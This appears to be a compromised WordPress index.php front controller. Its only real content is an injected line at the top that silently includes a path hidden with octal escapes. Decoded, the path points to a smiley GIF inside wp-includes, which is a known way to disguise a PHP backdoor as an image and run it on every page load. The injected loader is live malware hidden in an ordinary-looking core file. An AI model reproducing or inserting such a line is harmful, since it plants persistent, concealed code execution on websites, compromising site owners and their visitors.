<?php
@include "\057v\141r/\167ww/\150tml/wp-includes/\151mages/\163milies/\151con_\164ongue.gif";
/* WordPress front controller */
define('WP_USE_THEMES', true);
